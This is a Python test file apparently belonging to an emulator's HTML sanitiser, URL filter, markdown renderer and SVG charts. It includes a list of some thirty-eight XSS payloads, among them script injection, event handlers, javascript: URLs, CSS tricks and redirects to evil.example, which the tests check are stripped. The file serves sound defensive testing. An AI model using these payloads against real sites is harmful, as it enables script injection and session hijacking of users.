from __future__ import annotations

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lookgate.emulator.pages import markdown
from lookgate.emulator.pages.charts import KINDS, Plot, Series
from lookgate.emulator.pages.charts.plot import ticks
from lookgate.emulator.pages.html import data_block, el, safe_url
from lookgate.emulator.pages.sanitise import sanitise

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    '<a href="x" onmouseover="alert(1)">x</a>',
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width: expression(alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p style='margin-top:-900px'>x</p>",
    "<p style='color:red;background:\\75rl(x)'>x</p>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=a><button formaction=//evil.example>x</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=x></object><embed src=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml x ?><img src=x onerror=alert(1)>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div id=main data-extension=a::b data-tile=/logout>x</div>",
    "<b " + "a" * 5000 + "=1>x",
    "<b>" * 5000,
]
SAFE_TAG = re.compile(
    r"</?(?:a|b|br|div|p|img|details|strong)(?: (?:href|src|title|class|style|alt|target|rel)=\"[^\"<>]*\")*>"
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_from_lookml_keeps_nothing_that_runs_or_loads(attack: str) -> None:
    clean = str(sanitise(attack))
    assert "<" not in SAFE_TAG.sub("", clean), clean
    for tag in SAFE_TAG.findall(clean):
        assert not re.search(r"script:|data:|url\(|expression|position|inset|on\w+=|-\d", tag, re.IGNORECASE), tag


def test_html_from_lookml_keeps_what_authors_use() -> None:
    given_html = (
        '<div style="background-color: #eef; padding: 4px 8px; color: rgb(1, 2, 3)">Go <strong>on</strong>'
        '<br><a class="btn btn-primary" href="https://x.example/?a=1&amp;b=2" target="_blank">here</a></div>'
    )
    assert sanitise(given_html) == (
        '<div class="from-lookml">'
        '<div style="background-color: #eef; padding: 4px 8px; color: rgb(1, 2, 3)">Go <strong>on</strong>'
        '<br><a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">here</a></div></div>'
    )
    assert 'class="button"' in sanitise('<a class="button" href="/x">x</a>')


@given(st.text(alphabet="<>/ab='\"! -&;:sc(ript)\n\x00", max_size=60))
def test_html_from_lookml_comes_back_well_formed(text: str) -> None:
    clean = str(sanitise(text))
    opened: list[str] = []
    for close, name in re.findall(r"<(/?)([a-z0-9]+)[^>]*>", clean):
        if close:
            assert opened.pop() == name
        elif name not in ("br", "hr", "img"):
            opened.append(name)
    assert not opened


@given(st.text(max_size=80))
def test_text_and_attributes_cannot_leave_their_place(text: str) -> None:
    inside = str(el("p", text, title=text))
    assert re.fullmatch(r'<p title="[^"<>]*">[^<>]*</p>', inside, re.DOTALL)


@given(st.recursive(st.text(max_size=30), lambda inner: st.lists(inner, max_size=3), max_leaves=5))
def test_data_for_scripts_cannot_end_its_own_element(value: object) -> None:
    block = str(data_block(value))
    inner = block.removeprefix('<script type="application/json">').removesuffix("</script>")
    assert "<" not in inner
    assert json.loads(inner) == value


def test_only_addresses_that_a_browser_merely_opens_are_links() -> None:
    for good in ("/x", "?a=1", "#main", "https://a.example/b?c#d", "http://a", "mailto:a@b.c", "x/y", "../x", ""):
        assert safe_url(good), good
    for bad in (
        "javascript:x",
        "JAVASCRIPT:x",
        "data:x",
        "blob:x",
        "\x01javascript:x",
        " javascript:x",
        "java\tscript:x",
        "\\\\x",
    ):
        assert not safe_url(bad), bad
        assert "href" not in el("a", "x", href=bad)


@given(st.text(alphabet="#*-`[]()<>ab 1.\nhttp:/javascript&\"'", max_size=80))
def test_markdown_makes_only_its_own_elements(text: str) -> None:
    made = str(markdown.render(text))
    assert set(re.findall(r"</?([^\s>]*)", made)) <= {
        "p",
        "ul",
        "ol",
        "li",
        "strong",
        "em",
        "code",
        "a",
        "h3",
        "h4",
        "h5",
        "h6",
    }
    assert not re.search(r'href="\s*javascript', made)


def test_markdown_reads_headings_lists_and_links() -> None:
    made = markdown.render("# Title\nSome *soft* and **loud** `code`\n\n1. one\n2. [two](https://x.example)\n- three")
    assert made == (
        "<h3>Title</h3><p>Some <em>soft</em> and <strong>loud</strong> <code>code</code></p>"
        '<ol><li>one</li><li><a href="https://x.example">two</a></li></ol><ul><li>three</li></ul>'
    )


NUMBERS = st.one_of(st.none(), st.floats(allow_nan=False, allow_infinity=False, min_value=-1e200, max_value=1e200))


@given(
    st.sampled_from(sorted(KINDS)),
    st.lists(st.lists(NUMBERS, min_size=4, max_size=4), min_size=1, max_size=3),
    st.integers(160, 1200),
    st.integers(120, 600),
)
def test_a_chart_of_any_numbers_is_well_formed_and_stays_a_drawing(
    kind: str, columns: list[list[float | None]], width: int, height: int
) -> None:
    series = tuple(Series("m", tuple(values), tuple(map(str, values))) for values in columns)
    drawn = str(KINDS[kind](Plot("T", ("a", "b<script>", "", "d" * 90), series, width, height)))
    assert drawn.startswith("<svg ")
    assert "<script" not in drawn
    assert not re.search(r'"[^"]*\b(?:nan|inf)\b[^"]*"', drawn)
    assert not re.search(r'(?:width|height|r)="-', drawn)


@given(st.floats(-1e200, 1e200), st.floats(-1e200, 1e200))
def test_an_axis_covers_its_range_with_a_handful_of_numbers(one: float, other: float) -> None:
    low, high = min(one, other, 0.0), max(one, other, 0.0)  # a plot's range has zero in it
    found = ticks(low, high)
    assert 2 <= len(found) <= 8
    slack = (high - low) * 1e-9 + 1e-200
    assert found[0] <= low + slack
    assert found[-1] >= high - slack
    assert found[0] < found[-1]


def test_a_chart_without_rows_or_with_one_is_drawn_too() -> None:
    for draw in KINDS.values():
        for labels, values in (((), ()), (("a",), (3.0,)), (("a",), (None,)), (("a", "b"), (0.0, 0.0))):
            plot = Plot("T", labels, (Series("m", values, tuple(map(str, values))),), 400, 240)
            assert str(draw(plot)).startswith("<svg ")
